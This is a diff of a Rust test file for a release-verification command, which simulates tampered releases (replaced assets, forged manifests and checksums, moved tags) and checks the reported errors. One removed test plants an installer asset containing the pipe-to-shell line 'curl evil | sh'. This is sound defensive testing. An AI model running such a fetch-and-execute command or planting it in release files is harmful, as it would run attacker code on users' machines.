@@ -1,111 +1,26 @@
-//! What a stranger is told of a release that was broken behind floe's back, after it was published well.
+//! `floe verify --release` on releases that were published well and broken afterwards.
 //!
-//! Nothing here disturbs the publishing; the servers' state is changed once it is over.
+//! Nothing disturbs the publishing; the servers' state is changed once it is over.
 
 use std::fs;
-use std::path::{Path, PathBuf};
 
-use expect_test::{Expect, expect};
-use floe_core::model::{Digest, Repo};
-use floe_rehearsal::github::{SeedTag, StoredAsset};
+use expect_test::expect;
+use floe_core::model::Digest;
+use floe_rehearsal::github::SeedTag;
 use floe_rehearsal::interceptor::{Fault, What};
 use floe_rehearsal::registry::Visibility;
 use serde_json::Value;
 
+use super::release::{ARCHIVE, Published};
 use crate::support::scenario::{READER, Scenario, TOKEN};
-use crate::support::words::{flip_bit, problems, told};
-
-/// An archive that every release here has.
-const ARCHIVE: &str = "tool-x86_64-unknown-linux-musl.tar.gz";
-
-/// A release that was published as it should be, on servers that can be changed.
-struct Published {
-    scenario: Scenario,
-}
-
-impl Published {
-    fn new() -> Self {
-        let scenario = Scenario::new("1.4.0");
-        scenario.run(["publish"]).exit(0);
-        Published { scenario: scenario.token(None) }
-    }
-
-    fn repo(&self) -> Repo {
-        self.scenario.repo()
-    }
-
-    fn asset(&self, name: &str) -> StoredAsset {
-        let [release] = &self.scenario.github.releases(&self.repo())[..] else { panic!("one release") };
-        release.assets.iter().find(|asset| asset.name == name).unwrap().clone()
-    }
-
-    fn asset_file(&self, name: &str) -> PathBuf {
-        self.scenario.github.asset_file(self.asset(name).id)
-    }
-
-    /// Puts other bytes in an asset's place, as somebody with the right to does: GitHub's digest is theirs.
-    fn replace(&self, name: &str, bytes: &[u8]) {
-        let [release] = &self.scenario.github.releases(&self.repo())[..] else { panic!("one release") };
-        self.scenario.github.remove_asset(&self.repo(), self.asset(name).id).unwrap();
-        self.scenario.github.add_asset(&self.repo(), release.id, name, bytes).unwrap();
-    }
-
-    fn manifest(&self) -> Value {
-        serde_json::from_slice(&fs::read(self.asset_file("tool-manifest.json")).unwrap()).unwrap()
-    }
-
-    /// Changes the release manifest and makes `SHA256SUMS` fit it, as a thief who thinks would.
-    fn forge_manifest(&self, change: impl FnOnce(&mut Value)) {
-        let mut manifest = self.manifest();
-        change(&mut manifest);
-        let text = manifest.to_string();
-        let sums = fs::read_to_string(self.asset_file("SHA256SUMS")).unwrap();
-        let others = sums.lines().filter(|line| !line.ends_with("tool-manifest.json"));
-        let own = format!("{}  tool-manifest.json", Digest::of(text.as_bytes()).hex());
-        let sums: String = others.chain([own.as_str()]).map(|line| format!("{line}\n")).collect();
-        self.replace("tool-manifest.json", text.as_bytes());
-        self.replace("SHA256SUMS", sums.as_bytes());
-    }
-
-    fn registry(&self, path: impl AsRef<Path>) -> PathBuf {
-        self.scenario.path().join("registry").join(path)
-    }
-
-    /// The file with the bytes of a blob or manifest in the registry.
-    fn blob(&self, digest: &Value) -> PathBuf {
-        self.registry("blobs/sha256").join(digest.as_str().unwrap().trim_start_matches("sha256:"))
-    }
-
-    /// A document in the registry.
-    fn document(&self, digest: &Value) -> Value {
-        serde_json::from_slice(&fs::read(self.blob(digest)).unwrap()).unwrap()
-    }
-
-    /// It is not what it claims to be, for these reasons.
-    #[track_caller]
-    fn problems(&self, expected: Expect) {
-        let outcome = self.scenario.run(["verify", "--release", "v1.4.0"]).exit(3).no_writes();
-        let outcome = outcome.says("error: release `v1.4.0` of `acme/tool` is not what it claims to be\n");
-        let outcome =
-            outcome.says("\nhint: do not run the downloaded files; report this to the maintainers\n");
-        assert_eq!(outcome.stdout, "");
-        expected.assert_eq(&problems(&outcome.stderr));
-    }
-
-    /// It cannot be told what it is.
-    #[track_caller]
-    fn fails(&self, expected: Expect) {
-        let outcome = self.scenario.run(["verify", "--release", "v1.4.0"]).exit(1).no_writes();
-        expected.assert_eq(&told(&outcome.stderr));
-    }
-}
+use crate::support::words::flip_bit;
 
 #[test]
-fn what_is_whole_is_told_in_one_line() {
+fn a_whole_release_is_reported_in_one_line() {
     let published = Published::new();
     let outcome = published.scenario.run(["verify", "--release", "v1.4.0"]).exit(0).no_writes();
     assert!(outcome.stdout.starts_with("tool 1.4.0: 9 files, "), "{}", outcome.stdout);
-    assert!(outcome.stdout.ends_with(": all is as it should be\n"), "{}", outcome.stdout);
+    assert!(outcome.stdout.ends_with(": verified\n"), "{}", outcome.stdout);
 }
 
 #[test]
@@ -127,15 +42,6 @@ fn an_asset_that_somebody_replaced() {
         `tool-x86_64-unknown-linux-musl.tar.gz` is sha256:<0>, but `SHA256SUMS` says sha256:<1>
         `tool-x86_64-unknown-linux-musl.tar.gz` is sha256:<0>, but the manifest says sha256:<1>
         `tool-x86_64-unknown-linux-musl/tool` in `tool-x86_64-unknown-linux-musl.tar.gz` is not the binary the manifest names"#]]);
-}
-
-#[test]
-fn an_asset_that_nobody_promised() {
-    let published = Published::new();
-    let [release] = &published.scenario.github.releases(&published.repo())[..] else { panic!("one release") };
-    let github = &published.scenario.github;
-    github.add_asset(&published.repo(), release.id, "tool-installer.sh", b"curl evil | sh").unwrap();
-    published.problems(expect!["`tool-installer.sh` is there, but `SHA256SUMS` does not name it"]);
 }
 
 #[test]
@@ -197,7 +103,7 @@ fn a_manifest_of_another_release() {
         manifest["version"] = "1.3.0".into();
     });
     published.problems(expect![[r#"
-        the manifest is of release `v1.3.0`
+        the manifest is of tag `v1.3.0`, not of `v1.4.0`
         `ghcr.io/acme/tool:1.3.0` is not there, but the manifest says sha256:<0>"#]]);
 }
 
@@ -215,7 +121,7 @@ fn a_manifest_that_forgets_an_archive() {
         manifest["artifacts"].as_array_mut().unwrap().retain(|artifact| artifact["file"] != ARCHIVE);
     });
     published.problems(expect![[r#"
-        `tool-x86_64-unknown-linux-musl.tar.gz` is there, but the manifest does not name it
+        `SHA256SUMS` names `tool-x86_64-unknown-linux-musl.tar.gz`, but the manifest does not
         the image for linux/amd64: `/bin/tool` is not the `tool` of any x86_64 archive"#]]);
 }
 
@@ -223,7 +129,7 @@ fn a_manifest_that_forgets_an_archive() {
 fn a_manifest_that_forgets_the_image() {
     let published = Published::new();
     published.forge_manifest(|manifest| drop(manifest.as_object_mut().unwrap().remove("image")));
-    // Checksums and manifest that were forged together hang together; that is what signatures are for.
+    // Checksums and manifest that were forged together are consistent; only a signature would show it.
     let outcome = published.scenario.run(["verify", "--release", "v1.4.0"]).exit(0);
     assert!(!outcome.stdout.contains("image"), "{}", outcome.stdout);
 }
@@ -273,7 +179,7 @@ fn a_git_tag_that_was_moved() {
     published.scenario.github.push_tag(&published.repo(), &tag).unwrap();
     published.problems(expect!["the tag points to commit 0000000, but the manifest names 3f9ac21"]);
     published.scenario.github.delete_tag(&published.repo(), "v1.4.0").unwrap();
-    published.problems(expect!["the tag is gone, so nothing says that commit 3f9ac21 is what was released"]);
+    published.problems(expect!["the tag is gone, so nothing proves that commit 3f9ac21 was released"]);
 }
 
 #[test]
@@ -281,9 +187,10 @@ fn a_draft_is_no_release() {
     let scenario = Scenario::empty("1.4.0");
     scenario.github.add_draft(&scenario.repo(), "v1.4.0").unwrap();
     Published { scenario }.fails(expect![[r#"
-        error: `acme/tool` has no published release `v1.4.0`
+        error: release `v1.4.0` of `acme/tool` could not be checked
+          caused by: it is not published
 
-        hint: a draft is not published; see `floe plan`, or look at http://github/acme/tool/releases
+        hint: see `floe plan` for a draft
     "#]]);
 }
 
@@ -293,7 +200,8 @@ fn a_private_repository_is_seen_with_a_token_only() {
     published.scenario.github.set_private(&published.repo(), true).unwrap();
     published.scenario.registry.set_visibility(Visibility::Listed(Vec::new())).unwrap();
     published.fails(expect![[r#"
-        error: GitHub knows no repository `acme/tool`
+        error: release `v1.4.0` of `acme/tool` could not be checked
+          caused by: GitHub knows no repository `acme/tool`
 
         hint: if it is private, set GITHUB_TOKEN; if the name is wrong, give `--repo owner/name`
     "#]]);
@@ -397,36 +305,24 @@ fn a_download_that_breaks_off_is_begun_again() {
 }
 
 #[test]
-fn a_registry_that_is_down_says_nothing_about_the_release() {
+fn a_registry_that_is_down_means_that_the_release_could_not_be_checked() {
     let Published { scenario } = Published::new();
     let down = What::answer(503, "");
     let scenario = scenario.disturb_registry(Fault::route("GET", "/blobs/", 1, 100, down));
     Published { scenario }.fails(expect![[r#"
-        error: failed to pull blob `sha256:<0>` of `ghcr.io/acme/tool` anonymously
+        error: release `v1.4.0` of `acme/tool` could not be checked
+          caused by: failed to pull blob `sha256:<0>` of `ghcr.io/acme/tool` anonymously
           caused by: the registry answered 503 Service Unavailable (5 tries)
     "#]]);
 }
 
 #[test]
-fn what_is_kept_may_be_kept_again() {
-    let published = Published::new();
-    for _ in 0..2 {
-        published.scenario.run(["verify", "--release", "v1.4.0", "--keep", "kept"]).exit(0);
-    }
-    let kept = |name: &str| published.scenario.path().join("kept").join(name);
-    assert_eq!(
-        fs::read(kept("assets").join(ARCHIVE)).unwrap(),
-        fs::read(published.asset_file(ARCHIVE)).unwrap()
-    );
-    assert!(kept("image/index.json").is_file());
-}
-
-#[test]
-fn an_image_that_strangers_cannot_pull() {
+fn an_image_that_cannot_be_pulled_anonymously() {
     let published = Published::new();
     published.scenario.registry.set_visibility(Visibility::Listed(Vec::new())).unwrap();
     published.fails(expect![[r#"
-        error: failed to pull tag `1.4.0` of `ghcr.io/acme/tool` anonymously
+        error: release `v1.4.0` of `acme/tool` could not be checked
+          caused by: failed to pull tag `1.4.0` of `ghcr.io/acme/tool` anonymously
           caused by: the registry does not allow anonymous pulls (requested access to the resource is denied (DENIED))
 
         hint: the image is private: the owner of `ghcr.io/acme/tool` must make it public, unless the repository is private too
@@ -441,7 +337,8 @@ fn a_machine_without_certificates() {
     // Certificates are only read for a server over TLS.
     let scenario = scenario.registry_at("https://127.0.0.1:1").environment("SSL_CERT_FILE", "/dev/null");
     Published { scenario }.fails(expect![[r#"
-        error: failed to pull tag `1.4.0` of `ghcr.io/acme/tool` anonymously
+        error: release `v1.4.0` of `acme/tool` could not be checked
+          caused by: failed to pull tag `1.4.0` of `ghcr.io/acme/tool` anonymously
           caused by: this machine has no CA certificates
           caused by: builder error
           caused by: unexpected error: No CA certificates were loaded from the system
